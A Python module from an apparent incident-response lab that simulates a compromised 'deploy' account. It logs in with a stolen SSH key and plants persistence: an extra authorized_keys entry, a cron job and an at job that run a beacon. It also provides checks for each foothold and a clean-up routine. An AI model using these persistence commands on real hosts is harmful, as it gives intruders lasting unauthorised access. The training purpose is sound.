"""The staged attack `compromised-account`: a stolen key, and every way of staying that one account has."""

from __future__ import annotations

import shlex
from pathlib import Path

from irflow.lab.base import make_key
from irflow.lab.intruder import Intruder, works
from irflow.lab.lab import Lab
from irflow.lab.model import LabHost
from irflow.lab.vantage import ssh_argv

ACCOUNT = "deploy"
_ANSWER_S = 10.0
_KEYS = f"/home/{ACCOUNT}/.ssh/authorized_keys"
_MARK = "left-by-the-intruder"

# Typed into the stolen session, as the account: a second key, a cron job, an at job where there is `at`.
_PLANT_KEY = "printf '%s\\n' {key} >>~/.ssh/authorized_keys"
_PLANT_CRON = "{{ crontab -l 2>/dev/null; echo '*/5 * * * * : {mark}; exec {path}'; }} | crontab -"
_PLANT_AT = "if command -v at >/dev/null; then echo ': {mark}; exec {path}' | at now + 6 hours 2>&1; fi; echo over"

_CLEAN = """\
f=$2
if [ -f "$f" ]; then grep -vF "$3" "$f" >"$f.new" || :; cat "$f.new" >"$f"; rm "$f.new"; fi
crontab -u "$1" -r 2>/dev/null || :
find /var/spool/cron/atjobs -type f -user "$1" -delete
"""


class StolenAccount(Intruder):
    """An attack under way with the account `deploy` of one host.

    has_at: whether a job could be left with `at` there.
    """

    def __init__(self, lab: Lab, host: LabHost) -> None:
        """Log in with the stolen key and dig in. Raises LabError."""
        self.host = host
        self.has_at = False
        # A pair of the attacker's own: not the one that opens mallory.
        self._own_key = lab.layout.files / f"planted-{host.name}"
        super().__init__(lab)

    def _break_in(self) -> None:
        public = make_planted_key(self._own_key)
        self.session = self._session(self.host, self._login(self.lab.deploy_key))
        self.beacon = self._beacon(self.host, self.session)
        self._type(_PLANT_KEY.format(key=shlex.quote(public)))
        self._type(_PLANT_CRON.format(mark=_MARK, path=self.beacon.path))
        self._type(_PLANT_AT.format(mark=_MARK, path=self.beacon.path))
        self.has_at = self.at_job()

    def session_alive(self) -> bool:
        """Whether what the attacker types is answered."""
        return self.session.echoes()

    def stolen_key_works(self) -> bool:
        """Whether the stolen key logs in anew."""
        return works(self.lab, self._login(self.lab.deploy_key), 3.0)

    def planted_key_works(self) -> bool:
        """Whether the key that the attacker added logs in."""
        return works(self.lab, self._login(self._own_key), 3.0)

    def cron_job(self) -> bool:
        """Whether cron would still run what the attacker left: it is in the folder that cron reads."""
        return self._found("/var/spool/cron/crontabs")

    def at_job(self) -> bool:
        """Whether atd would still run what the attacker left."""
        return self._found("/var/spool/cron/atjobs")

    def processes(self) -> bool:
        """Whether any process of the account lives."""
        return bool(self._on_host(self.host, 'ps -u "$1" -o pid= || :', ACCOUNT).strip())

    def clean(self) -> None:
        """Remove the planted key and jobs, the processes, and the stolen key. Twice is fine. Raises LabError."""
        self._end_processes(self.host, ACCOUNT)
        for name in (self._own_key.with_suffix(".pub"), self.lab.deploy_key.with_suffix(".pub")):
            self._on_host(self.host, _CLEAN, ACCOUNT, _KEYS, name.read_text().split()[1])

    def _login(self, key: Path) -> list[str]:
        return ssh_argv(self.lab, self.host, "attacker", user=ACCOUNT, key=key, connect_s=3)

    def _type(self, line: str) -> str:
        return self.session.ask(line, _ANSWER_S) or ""

    def _found(self, folder: str) -> bool:
        return bool(self._on_host(self.host, 'grep -rlF "$1" "$2" || :', _MARK, folder).strip())


def make_planted_key(path: Path) -> str:
    """Make the attacker's own key pair; its public line."""
    path.unlink(missing_ok=True)
    make_key(path, "backup@build-7")
    return path.with_suffix(".pub").read_text().strip()
